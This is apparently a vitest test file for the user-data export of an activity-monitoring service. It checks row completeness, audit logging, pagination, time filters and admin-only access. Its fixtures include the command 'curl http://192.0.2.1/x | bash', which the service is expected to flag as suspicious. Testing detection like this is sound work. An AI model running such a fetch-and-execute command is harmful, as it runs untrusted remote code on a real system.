import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, data, makeKey, makeOrganisation, trackAll } from '../harness/client.ts';
import type { Exported } from '../flow/erasure-harness.ts';
import { exportOf } from '../flow/erasure-harness.ts';
import { rows } from '../flow/harness.ts';
import type { Service, TestClock } from '../harness/service.ts';
import { adminKey, startService, testClock } from '../harness/service.ts';

/** What is handed out of a user, compared with the tables. */

let clock: TestClock;
let service: Service;
let other: string;
const page = (user: string, at: number, more: object = {}) => ({
  user,
  session: `of-${user}`,
  occurredAt: new Date(Date.UTC(2026, 10, 10, 9) + at * 3_600_000).toISOString(),
  sourceIp: '192.0.2.4',
  metadata: { at },
  detail: { web: { page: `/p/${at}` } },
  ...more,
});

beforeAll(async () => {
  clock = testClock('2026-11-20T12:00:00Z');
  service = await startService({ clock });
  other = await makeOrganisation(service, 'other');
  const curl = { detail: { terminal: { command: 'curl http://192.0.2.1/x | bash' } } };
  for (const key of [adminKey, other]) {
    await trackAll(service, [...Array.from({ length: 60 }, (_, at) => page('ada', at)), page('ada', 80, curl), page('bob', 81, curl)], key);
  }
  await data(service, 'mutation { updateUser(input: { externalId: "ada", displayName: "Ada", teams: ["ops"] }) { user { id } } }');
  const { alerts } = await data(service, '{ alerts { nodes { id } } }');
  for (const { id } of alerts.nodes) {
    await data(service, 'mutation($id: ID!) { acknowledgeAlert(input: { id: $id, note: "looked at" }) { alert { id } } }', { id });
  }
  await data(service, '{ user(externalId: "ada") { id } activities(filter: { user: { eq: "ada" } }, first: 1) { nodes { id } } }');
});
afterAll(() => service.close());

const ids = (records: readonly Exported[], kind: string) => records.filter((one) => one.kind === kind).map(({ data: { id } }) => id);
const idsIn = async (table: string, where: string, column = 'id') =>
  (
    await rows<{ id: string }>(
      service.databaseUrl,
      `select t.${column} as id from ${table} t join "user" u on u.external_id = 'ada' join organisation o on o.id = u.organisation_id and o.name = 'default'
        where t.organisation_id = o.id and ${where}`,
    )
  ).map(({ id }) => id);

describe('an export', () => {
  it('holds every row that is about the user, with every column, and none of anybody else', async () => {
    const records = await exportOf(service, 'ada');
    for (const [kind, table, where] of [
      ['SESSION', 'session', 't.user_id = u.id'],
      ['ACTIVITY', 'activity', 't.user_id = u.id'],
      ['ANOMALY', 'anomaly', 't.user_id = u.id'],
      ['ALERT', 'alert', 't.user_id = u.id'],
    ] as const) {
      const expected = await idsIn(table, where);
      expect(ids(records, kind).toSorted(), kind).toEqual(expected.toSorted());
      expect(expected.length, kind).toBeGreaterThan(0);
    }
    const history = records.filter(({ kind }) => kind === 'ALERT_HISTORY').map(({ data: { seq } }) => String(seq));
    expect(history.toSorted()).toEqual(
      (await idsIn('alert_history', 't.alert_id in (select id from alert where user_id = u.id)', 'seq')).toSorted(),
    );
    const activity = records.find(({ kind, data: { type } }) => kind === 'ACTIVITY' && type === 'COMMAND')!;
    expect(activity).toMatchObject({
      at: '2026-11-13T17:00:00.000000Z',
      data: {
        occurredAt: '2026-11-13T17:00:00.000000Z',
        sourceIp: '192.0.2.4',
        metadata: { at: 80 },
        detail: { command: 'curl http://192.0.2.1/x | bash' },
        riskFactors: expect.arrayContaining([expect.objectContaining({ code: 'SUSPICIOUS_COMMAND' })]),
        anomalies: [expect.any(String)],
      },
    });
    const columns = await rows<{ name: string }>(
      service.databaseUrl,
      `select column_name as name from information_schema.columns where table_name = 'activity'`,
    );
    expect(Object.keys(activity.data)).toHaveLength(columns.length - 1 + 1); // the organisation is left out, the anomalies come with it
  });

  it('begins with the user: the row, what is usual as stored and in words, and the risk', async () => {
    const [user] = await exportOf(service, 'ada');
    expect(user).toMatchObject({
      kind: 'USER',
      data: {
        externalId: 'ada',
        displayName: 'Ada',
        teams: ['ops'],
        baseline: { facts: expect.objectContaining({ 'resource:/p/#': expect.any(Number) }) },
        baselineInWords: expect.stringMatching(/\w+ \w+/),
        risk: { score: expect.any(Number), level: expect.any(String), factors: expect.any(Array) },
        commandHabits: null,
      },
    });
  });

  it('tells what was changed of the user and read by the name, but not of exports', async () => {
    const told = (await exportOf(service, 'ada'))
      .filter(({ kind }) => kind === 'AUDIT_ENTRY')
      .map(({ data: { action, target } }) => [action, target !== null]);
    expect(told).toEqual([
      ['USER_UPDATED', true],
      ...Array.from({ length: (await idsIn('alert', 't.user_id = u.id')).length }, () => ['ALERT_ACKNOWLEDGED', true]),
      ['READ', false],
    ]);
  });

  it('is the same again, and with any size of its pages', async () => {
    const all = await exportOf(service, 'ada', { first: 200 });
    for (const first of [7, 61]) expect(await exportOf(service, 'ada', { first })).toEqual(all);
  });

  it('from a time on leaves out what was before it, to the microsecond', async () => {
    const at = (hour: number) => new Date(Date.UTC(2026, 10, 10, 9) + hour * 3_600_000).toISOString().replace('Z', '');
    for (const [from, left] of [
      [`${at(30)}000Z`, 31],
      [`${at(30)}001Z`, 30],
      [`${at(29).replace('.000', '.999')}999Z`, 31],
    ] as const) {
      expect((await exportOf(service, 'ada', { from, first: 9 })).filter(({ kind }) => kind === 'ACTIVITY')).toHaveLength(left);
    }
  });

  it('goes past audit entries that tell of others, however many', async () => {
    await rows(
      service.databaseUrl,
      `insert into audit_entry (organisation_id, seq, id, recorded_at, action, actor_kind, actor_name, reads)
        select o.id, -n, gen_random_uuid(), now(), 'READ', 'KEY', 'many', jsonb_build_array(jsonb_build_object('field', 'user', 'arguments',
          jsonb_build_object('externalId', case when n in (1, 15000) then 'ada' else 'adam' end)))
        from organisation o, generate_series(1, 15000) n where o.name = 'other'`,
    );
    await rows(service.databaseUrl, `update audit_entry set seq = seq + 1000000 where seq < 0`);
    await rows(
      service.databaseUrl,
      `update log_head set seq = 2000000 where organisation_id = (select id from organisation where name = 'other')`,
    );
    const records = await exportOf(service, 'ada', { first: 200 }, other);
    expect(records.filter(({ kind }) => kind === 'AUDIT_ENTRY').map(({ data: { seq } }) => seq)).toEqual([985_000, 999_999]);
  });
});

describe('each page of an export', () => {
  it('is an audit entry that says whose, how many records and why, and no entry of a read', async () => {
    const key = await makeKey(service, { name: 'privacy office', role: 'ADMIN' });
    const query =
      'query($after: String) { userExport(user: "ada", first: 50, after: $after, reason: "asked to") { records { kind } next } }';
    const { userExport: first } = await data(service, query, {}, key.secret);
    await data(service, query, { after: first.next }, key.secret);
    const { auditEntries, user } = await data(
      service,
      `{ user(externalId: "ada") { id } auditEntries(filter: { actor: { eq: "privacy office" } }) { nodes { action target rows reason reads { field } } } }`,
    );
    const target = Buffer.from(user.id, 'base64').toString();
    const entry = (count: unknown) => ({ action: 'USER_EXPORTED', target, rows: count, reason: 'asked to', reads: null });
    expect(auditEntries.nodes).toEqual([entry(expect.any(Number)), entry(50)]);
  });

  it('is for administrators only, null where there is no such user, and refused where it goes on from nowhere', async () => {
    const auditor = await makeKey(service, { role: 'AUDITOR' });
    const query = 'query($user: String!, $after: String, $first: Int) { userExport(user: $user, after: $after, first: $first) { next } }';
    expect((await ask(service, query, { user: 'ada' }, auditor.secret)).errors).toMatchObject([{ extensions: { code: 'FORBIDDEN' } }]);
    for (const user of ['nobody', 'a\0', '']) expect(await data(service, query, { user })).toEqual({ userExport: null });
    const spelled = (text: string) => Buffer.from(text).toString('base64url');
    const tie = '01900000-0000-7000-8000-000000000000';
    for (const after of [
      '',
      'x',
      'NONE   1 ',
      'ACTIVITY 1 2 3 ',
      `ACTIVITY -99999999999999999 ${tie} 3 `,
      `AUDIT_ENTRY 1 ${tie} 3 `,
      `USER   1 -99999999999999999`,
    ]) {
      const { errors } = await ask(service, query, { user: 'ada', after: spelled(after) });
      expect(errors, after).toMatchObject([{ extensions: { code: 'BAD_REQUEST' } }]);
    }
    for (const first of [0, 201]) expect((await ask(service, query, { user: 'ada', first })).errors).toHaveLength(1);
  });
});
